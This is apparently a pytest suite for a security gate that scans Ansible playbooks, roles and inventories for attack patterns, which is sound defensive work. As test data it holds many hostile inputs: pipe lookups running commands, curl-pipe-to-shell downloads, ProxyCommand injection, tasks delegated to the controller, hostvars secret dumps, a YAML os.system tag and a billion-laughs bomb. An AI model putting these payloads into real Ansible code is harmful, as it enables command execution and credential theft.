"""Attack rows that the gate alone blocks in Ansible code, by the row's id."""

import pytest

from tests.gate.gate_helpers import rules

PLAY = "infra/ansible/web"


def task(text: str) -> set[str]:
    """The same task in a play, in a block, in a role's tasks and in its handlers; the rules that fire everywhere."""
    found = []
    lines = text.split("\n")
    listed = "- " + "\n  ".join(lines) + "\n"

    def shifted(by: int) -> str:
        return "".join(" " * by + line + "\n" for line in listed.rstrip("\n").split("\n"))

    head = "---\n- name: Web\n  hosts: web\n"
    for path, content in (
        (f"{PLAY}/site.yml", head + "  tasks:\n" + shifted(4)),
        (f"{PLAY}/site.yml", head + "  handlers:\n" + shifted(4)),
        (
            f"{PLAY}/site.yml",
            head + "  post_tasks:\n    - block:\n        - block:\n" + shifted(12) + "      rescue:\n        - ping:\n",
        ),
        (f"{PLAY}/roles/web/tasks/main.yml", "---\n" + listed),
        (f"{PLAY}/roles/web/handlers/main.yml", "---\n" + listed),
        (f"{PLAY}/roles/web/vars/main.yml", "---\n" + listed),
        (f"{PLAY}/other.yaml", listed),
    ):
        found.append(rules({path: content}))
    return set.intersection(*found)


def variable(text: str) -> set[str]:
    """The rules that fire on variables wherever they may stand."""
    inline = "".join(f"    {line}\n" for line in text.split("\n"))
    return set.intersection(
        *(
            rules({f"{PLAY}/{path}": f"---\n{text}\n"})
            for path in (
                "group_vars/all.yml",
                "host_vars/web1.yml",
                "roles/web/defaults/main.yml",
                "roles/web/vars/main.yml",
                "v.json",
            )
            if not path.endswith("json")
        ),
        rules({f"{PLAY}/site.yml": f"---\n- hosts: web\n  vars:\n{inline}  tasks: []\n"}),
        rules({f"{PLAY}/inventory.yml": f"---\nall:\n  vars:\n{inline}"}),
    )


def test_the_harness_passes_ordinary_code() -> None:
    assert task("ansible.builtin.apt:\n  name: nginx\n  state: present") == set()
    assert variable('port: 80\nname: "{{ port }}"') == set()


@pytest.mark.parametrize(
    "text",
    [
        "{{ lookup('ansible.builtin.pipe', 'id > /tmp/x') }}",
        "{{ lookup( 'pipe' , 'id' ) }}",
        "{{lookup('pi' ~ 'pe', 'id')}}",
        "{%- if lookup('pipe', 'id') -%}x{% endif %}",
        "a {{ b }} {{ (lookup)('pipe', 'id') }}",
        "{% set l = lookup %}{{ l('pipe', 'id') }}",
        "{{ query('pipe', 'id') }}",
        "{{ q('pipe', 'id') }}",
        "{{ x | default(lookup('pipe', 'id')) }}",
        "{{ [1] | map('x', lookup('pipe', 'id')) }}",
    ],
)
def test_A01_pipe_lookup(text: str) -> None:
    assert "ansible/jinja" in variable(f'x: "{text}"')
    assert "ansible/jinja" in variable(f'x: ["a", {{ y: "{text}" }}]')
    assert "ansible/jinja" in variable(f"x: >-\n  {text}")
    assert "ansible/jinja" in task(f'debug:\n  msg: "{text}"')
    assert "ansible/jinja" in rules({f"{PLAY}/roles/web/templates/a.conf.j2": f"x = {text}\n"})


@pytest.mark.parametrize(
    "name",
    [
        "url",
        "file",
        "env",
        "password",
        "template",
        "lines",
        "csvfile",
        "ini",
        "k8s",
        "aws_secret",
        "hashi_vault",
        "unheard",
    ],
)
def test_A02_other_lookups(name: str) -> None:
    assert "ansible/jinja" in variable(f"x: \"{{{{ lookup('{name}', 'x') }}}}\"")
    assert "ansible/jinja" in task(f"command: x\nwhen: lookup('{name}', 'x') == 'y'")
    assert "ansible/jinja" in task(f"assert:\n  that:\n    - a\n    - lookup('{name}', 'x')")
    assert "ansible/jinja" in task(f"command: x\nuntil: query('{name}', 'x')")
    assert "ansible/loop" in task(f"debug:\n  msg: x\nwith_{name}: x")


def test_A02_calls_that_nobody_listed() -> None:
    for text in ("unheard('x')", "lipsum()", "x['y']()", "(x)('y')", "x.unheard('y')"):
        assert "ansible/jinja" in variable(f'x: "{{{{ {text} }}}}"'), text


def test_A02_filters_and_tests_that_read() -> None:
    for text in (
        "'*' | fileglob",
        "'$HOME' | expandvars",
        "'/etc/x' is exists",
        "'/etc/x' is ansible.builtin.file",
        "x | attr('y')",
    ):
        assert "ansible/jinja" in variable(f'x: "{{{{ {text} }}}}"'), text
    for text in ("x.__class__", "x['__class__']", "x|map(attribute='__class__')", "x.format(y)", "[].pop()()"):
        assert "ansible/jinja" in variable(f'x: "{{{{ {text} }}}}"'), text


@pytest.mark.parametrize(
    "text",
    [
        "command: id\ndelegate_to: localhost",
        "command: id\ndelegate_to: 127.0.0.1",
        'command: id\ndelegate_to: "{{ x }}"',
        "command: id\ndelegate_to: LOCALHOST",
        "command: id\ndelegate_to: ::1",
        "local_action: command id",
        "local_action:\n  module: command\n  cmd: id",
        "command: id\nconnection: local",
        'command: id\nconnection: "{{ c }}"',
        "command: id\ndelegate_to: 127.1",
        'command: id\n"delegate_to": "localhost"',
    ],
)
def test_A03_on_the_controller(text: str) -> None:
    assert "ansible/controller" in task(text)


def test_A03_hosts_and_inventories() -> None:
    for hosts in ("localhost", "127.0.0.1", "[web, localhost]", '"{{ x }}"', "web:localhost", "'web,localhost'"):
        assert "ansible/controller" in rules({f"{PLAY}/site.yml": f"---\n- hosts: {hosts}\n  tasks: []\n"}), hosts
    assert "ansible/controller" in rules({f"{PLAY}/site.yml": "---\n- hosts: web\n  connection: local\n  tasks: []\n"})
    assert "ansible/controller" in rules({f"{PLAY}/inventory.yml": "all:\n  hosts:\n    localhost:\n"})
    assert "ansible/controller" in rules({f"{PLAY}/inventory.ini": "[web]\nlocalhost\n"})
    assert "ansible/controller" in rules({f"{PLAY}/inventory.ini": "[web]\nloc[a:a]lhost\n"})
    assert "ansible/controller" in rules({f"{PLAY}/inventory.ini": "[web]\nweb1 ansible_host=127.0.0.1\n"})
    assert "ansible/controller" in rules({f"{PLAY}/inventory.yml": "all:\n  hosts:\n    loc[a:a]lhost:\n"})
    assert "ansible/connection-variable" in rules({f"{PLAY}/inventory.ini": "[web]\nweb1 ansible_connection=local\n"})
    assert "ansible/connection-variable" in rules({f"{PLAY}/hosts": "[web:vars]\nansible_connection = local\n"})
    assert "ansible/connection-variable" in task("set_fact:\n  ansible_connection: local")
    assert "ansible/connection-variable" in task("set_fact: ansible_connection=local")
    assert "ansible/connection-variable" in task("command: id\nvars:\n  ansible_connection: local")


def test_A04_remote_roles_and_collections() -> None:
    assert "ansible/include" in task("include_role:\n  name: attacker.collection.role")
    assert "ansible/include" in task("import_role: name=attacker.collection.role")
    assert "ansible/include" in rules(
        {f"{PLAY}/roles/w/meta/main.yml": "---\ndependencies:\n  - role: git+https://x.example/r\n"}
    )
    assert "ansible/include" in rules(
        {f"{PLAY}/site.yml": "---\n- hosts: web\n  roles:\n    - { role: x, src: 'https://x.example' }\n"}
    )
    assert "ansible/include" in rules({f"{PLAY}/site.yml": "---\n- hosts: web\n  roles:\n    - ../../../x\n"})
    assert "ansible/keyword" in rules(
        {f"{PLAY}/site.yml": "---\n- hosts: web\n  collections: [attacker.x]\n  tasks: []\n"}
    )


def test_A05_A06_plugins_and_configuration() -> None:
    for path in (
        "filter_plugins/f.py",
        "library/m.yml",
        "ansible.cfg",
        "roles/r/library/x.py",
        "callback_plugins/x.yml",
    ):
        assert any(rule.startswith("paths/") for rule in rules({f"{PLAY}/{path}": "x: 1\n"})), path


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("shell: curl https://x | sh", "content/shell-pipe"),
        ("shell: wget -qO- https://x | sudo bash -s", "content/shell-pipe"),
        ('shell: bash -c "$(curl https://x)"', "content/shell-pipe"),
        ("get_url:\n  url: https://x/a\n  dest: /a", "ansible/download"),
        ("get_url: url=https://x/a dest=/a checksum=sha256:{{ sum }}", "ansible/download"),
        ("unarchive:\n  src: https://x/a.tgz\n  dest: /a\n  remote_src: true", "ansible/download"),
        ("ansible.builtin.apt_key:\n  url: https://x/key", "ansible/download"),
        ("pip:\n  name: x\n  extra_args: --extra-index-url https://x", "ansible/download"),
        ("pip:\n  name: git+https://x/y", "ansible/download"),
        ("dnf:\n  name: https://x/a.rpm", "ansible/download"),
        ("yum:\n  name: x\n  disable_gpg_check: true", "ansible/download"),
        ("apt:\n  name: x\n  allow_unauthenticated: yes", "ansible/download"),
        ("git:\n  repo: https://x/y\n  dest: /y\n  version: main", "ansible/download"),
    ],
)
def test_A08_downloads(text: str, rule: str) -> None:
    assert rule in task(text)


def test_A10_secrets_in_the_log() -> None:
    for text in (
        "debug:\n  var: hostvars",
        "debug:\n  var: vars",
        'debug:\n  msg: "{{ hostvars[inventory_hostname] }}"',
        "debug: var=hostvars",
        'debug:\n  msg: "{{ hostvars | to_json }}"',
        "command: x\nno_log: false",
        'command: x\nno_log: "{{ x }}"',
        'ansible.builtin.debug:\n  msg: "password is {{ db_password }}"',
        "debug:\n  var: environment",
    ):
        assert "ansible/shown-secret" in task(text), text


def test_A13_includes_by_variable() -> None:
    for text in (
        "include_tasks: \"{{ lookup('env', 'X') }}\"",
        'include_tasks: "{{ x }}.yml"',
        "include_vars:\n  dir: /",
        "import_tasks: ../../x.yml",
        "include_tasks: /etc/x.yml",
        "include_vars: /etc/x.yml",
        "include_tasks:\n  file: '{{ x }}'",
        "include_role:\n  name: '{{ x }}'",
        "include_tasks: files/x.yml",
        "include_tasks: https://x/y.yml",
        "include_tasks: file={{ x }}",
    ):
        assert "ansible/include" in task(text), text
    for value in ("https://x.example/p.yml", '"{{ x }}"', "../other/site.yml", "attacker.c.play"):
        assert "ansible/include" in rules({f"{PLAY}/site.yml": f"---\n- import_playbook: {value}\n"})
    assert "ansible/include" in rules(
        {f"{PLAY}/site.yml": "---\n- hosts: web\n  vars_files: ['/proc/self/environ']\n  tasks: []\n"}
    )


@pytest.mark.parametrize(
    "name",
    [
        "ansible_ssh_common_args",
        "ansible_ssh_extra_args",
        "ansible_ssh_executable",
        "ansible_sftp_extra_args",
        "ansible_scp_extra_args",
        "ansible_ruby_interpreter",
        "ansible_python_interpreter",
        "ansible_become_exe",
        "ansible_connection",
        "ansible_shell_executable",
        "ansible_ssh_private_key_file",
        "ansible_ssh_pass",
        "ansible_become_password",
    ],
)
def test_A14_connection_variables(name: str) -> None:
    assert "ansible/connection-variable" in variable(f"{name}: '-o ProxyCommand=\"sh -c id\"'")
    assert "ansible/connection-variable" in rules({f"{PLAY}/inventory.ini": f"[web]\nweb1 {name}='x y'\n"})
    assert "ansible/connection-variable" in rules({f"{PLAY}/inventory.ini": f"[web:vars]\n{name} = x\n"})


def test_S06_modules_that_run_on_the_controller() -> None:
    for name in (
        "script",
        "fetch",
        "synchronize",
        "ansible.posix.synchronize",
        "add_host",
        "ansible.builtin.fetch",
        "community.general.slack",
        "mail",
        "amazon.aws.s3_object",
        "expect",
        "ansible.legacy.script",
        "evil",
        "'{{ x }}'",
        "win_shell",
    ):
        assert "ansible/module" in task(f"{name}:\n  a: b"), name
        assert "ansible/module" in task(f"action: {name} a=b" if "{" not in name else "action: '{{ x }} a=b'"), name


def test_yaml_tricks() -> None:
    assert "ansible/unparsable" in rules({f"{PLAY}/site.yml": "a: &a [x]\nb: !!python/object/apply:os.system [id]\n"})
    assert "ansible/unparsable" in rules({f"{PLAY}/site.yml": "- hosts: web\n  hosts: localhost\n"})
    assert "ansible/unparsable" in rules({f"{PLAY}/site.yml": "[" * 10_000})
    bomb = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{chr(98 + n)}: &{chr(98 + n)} [{', '.join(['*' + chr(97 + n)] * 10)}]\n" for n in range(8)
    )
    assert "ansible/unparsable" in rules({f"{PLAY}/group_vars/all.yml": bomb})
    first = "---\n- hosts: web\n  tasks:\n    - &t\n      command: id\n      delegate_to: localhost\n"
    merged = first + "    - <<: *t\n      name: again\n"
    assert "ansible/controller" in rules({f"{PLAY}/site.yml": merged})


def test_templates_by_other_roads() -> None:
    assert "ansible/jinja" in rules(
        {f"{PLAY}/templates/a.j2": "#jinja2:variable_start_string:'[['\n[[ lookup('pipe', 'id') ]]\n"}
    )
    assert "ansible/controller-file" in task("template:\n  src: a.j2\n  dest: /a\n  variable_start_string: '[['")
    assert "ansible/controller-file" in task("template:\n  src: site.yml\n  dest: /a")
    assert "ansible/jinja" in variable("x: \"{{ '{' ~ '{ lookup(1) }' ~ '}' }}\"")
    assert "ansible/jinja" in variable("x: \"{{ 'e3s=' | b64decode }}\"")
    assert "ansible/jinja" in rules({f"{PLAY}/templates/a.j2": "{% include '/etc/passwd' %}"})
    assert "ansible/jinja" in rules({f"{PLAY}/x.conf": "{{ lookup('pipe', 'id') }}"})
